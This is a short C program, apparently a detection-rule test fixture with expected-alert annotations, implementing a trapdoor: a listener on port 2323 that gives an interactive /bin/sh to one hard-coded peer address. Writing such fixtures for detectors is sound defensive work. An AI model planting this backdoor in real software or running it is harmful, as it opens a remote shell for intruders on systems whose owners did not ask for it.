/*
 * behavior.trapdoor: a maintenance port that hands out a shell to one
 * hard-coded peer address. The IP address is the password; the same code is
 * also a bind shell.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a, peer;
    socklen_t len = sizeof(peer);

    memset(&a, 0, sizeof(a));
    a.sin_family = AF_INET;
    a.sin_port = htons(2323);
    a.sin_addr.s_addr = htonl(INADDR_ANY);
    if (bind(s, (struct sockaddr *)&a, sizeof(a)) != 0 || listen(s, 1) != 0)
        return 1;
    int c = accept(s, (struct sockaddr *)&peer, &len);
    if (c < 0)
        return 1;
    const char *from = inet_ntoa(peer.sin_addr);
    if (strcmp(from, "198.51.100.23") == 0) {
        dup2(c, 0);
        dup2(c, 1);
        dup2(c, 2);
        execl("/bin/sh", "sh", "-i", (char *)NULL); // $ Alert[behavior.trapdoor] Alert[behavior.reverse-shell]
    }
    close(c);
    return 0;
}
